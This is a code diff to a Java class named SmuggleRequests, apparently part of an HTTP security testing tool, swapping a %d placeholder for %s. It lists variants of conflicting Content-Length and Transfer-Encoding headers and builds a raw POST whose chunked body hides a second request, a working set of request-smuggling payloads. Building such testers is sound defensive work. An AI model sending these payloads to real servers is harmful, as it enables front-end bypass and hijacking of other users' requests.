@@ -22,19 +22,19 @@ final class SmuggleRequests implements Attack {
 
     /** Headers that describe the length of the body in two ways; the body in chunks has the second request after it. */
     private static final List<String> LENGTHS = List.of(
-            "Content-Length: %d\r\nTransfer-Encoding: chunked",
-            "Transfer-Encoding: chunked\r\nContent-Length: %d",
-            "Content-Length: %d\r\nTransfer-Encoding : chunked",
-            "Content-Length: %d\r\nTransfer-Encoding:\tchunked",
-            "Content-Length: %d\r\nTransfer-Encoding: xchunked",
-            "Content-Length: %d\r\nTransfer-Encoding: chunked, identity",
-            "Content-Length: %d\r\nTransfer-Encoding: identity\r\nTransfer-Encoding: chunked",
-            "Content-Length: %d\r\nX: y\r\n Transfer-Encoding: chunked",
-            "Content-Length: %d\r\nTransfer-Encoding:\r\n chunked",
-            "Content-Length: 5\r\nContent-Length: %d",
-            "Content-Length: %d\r\nContent-Length: 5",
-            "Content-Length: 5, %d",
-            "Content-Length: +%d",
+            "Content-Length: %s\r\nTransfer-Encoding: chunked",
+            "Transfer-Encoding: chunked\r\nContent-Length: %s",
+            "Content-Length: %s\r\nTransfer-Encoding : chunked",
+            "Content-Length: %s\r\nTransfer-Encoding:\tchunked",
+            "Content-Length: %s\r\nTransfer-Encoding: xchunked",
+            "Content-Length: %s\r\nTransfer-Encoding: chunked, identity",
+            "Content-Length: %s\r\nTransfer-Encoding: identity\r\nTransfer-Encoding: chunked",
+            "Content-Length: %s\r\nX: y\r\n Transfer-Encoding: chunked",
+            "Content-Length: %s\r\nTransfer-Encoding:\r\n chunked",
+            "Content-Length: 5\r\nContent-Length: %s",
+            "Content-Length: %s\r\nContent-Length: 5",
+            "Content-Length: 5, %s",
+            "Content-Length: +%s",
             "Content-Length: 0x5",
             "Content-Length: -1",
             "Content-Length: 5 5",
@@ -68,7 +68,7 @@ final class SmuggleRequests implements Attack {
     private static List<String> send(Wire wire, String length) throws IOException {
         String chunks = "0\r\n\r\n" + SECOND;
         String request = "POST /sessions HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\n%s\r\n\r\n%s"
-                .formatted(wire.authority(), length.replace("%d", String.valueOf(chunks.length())), chunks);
+                .formatted(wire.authority(), length.replace("%s", String.valueOf(chunks.length())), chunks);
         return statuses(wire.sendRaw(request, SILENCE));
     }
 
